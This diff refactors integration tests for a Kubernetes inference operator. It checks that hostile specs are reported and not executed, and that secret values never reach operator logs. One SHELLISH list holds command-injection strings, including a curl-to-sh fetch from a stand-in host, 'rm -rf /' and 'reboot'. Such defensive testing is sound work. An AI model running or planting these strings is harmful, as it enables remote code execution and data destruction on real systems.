@@ -5,17 +5,13 @@ operator; and secret values never appear in anything the operator writes or logs
 from __future__ import annotations
 
 import json
-import os
-import subprocess
-import sys
 import uuid
-from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from kubeharness import Cluster, eventually
+from kubeharness import Cluster, eventually, start_operator
 
 pytestmark = pytest.mark.integration
 SHELLISH = ["--chat-template=$(curl evil.example | sh)", "--x; rm -rf /", "`id`", "&& reboot"]
@@ -86,14 +82,6 @@ def test_admitted_hostile_specs_are_reported_not_executed(
     eventually(lambda: cluster.get("deployment", "fine", namespace), timeout=60)
 
 
-@pytest.fixture
-def solo(cluster: Cluster) -> Iterator[str]:
-    name = f"solo-{uuid.uuid4().hex[:8]}"
-    cluster.create_namespace(name)
-    yield name
-    cluster.delete_namespace(name)
-
-
 def test_secret_values_never_leave_the_secret(cluster: Cluster, solo: str, tmp_path: Path) -> None:
     assert cluster.process is not None, "needs the local cluster's audit log"
     value = f"hf_{uuid.uuid4().hex}SECRET"
@@ -104,23 +92,7 @@ def test_secret_values_never_leave_the_secret(cluster: Cluster, solo: str, tmp_p
         "create", "secret", "generic", "prom", "-n", solo, f"--from-literal=token={value}"
     )
     log = tmp_path / "operator.log"
-    env = {
-        **os.environ,
-        "KUBECONFIG": str(cluster.process.state / "operator.kubeconfig"),
-        "INFOP_NAMESPACE": solo,
-        "INFOP_HEALTH_PORT": "0",
-        "INFOP_METRICS_PORT": "0",
-        "INFOP_SCALER_PORT": "0",
-        "INFOP_LOG_LEVEL": "DEBUG",
-        "INFOP_AUTOSCALE_SECONDS": "1",
-        "INFOP_PROMETHEUS_URL": "http://127.0.0.1:9",
-    }
-    proc = subprocess.Popen(
-        [sys.executable, "-m", "inference_operator", "run"],
-        env=env,
-        stdout=log.open("wb"),
-        stderr=subprocess.STDOUT,
-    )
+    proc = start_operator(cluster, solo, log, INFOP_LOG_LEVEL="DEBUG")
     try:
         spec = {
             "model": {
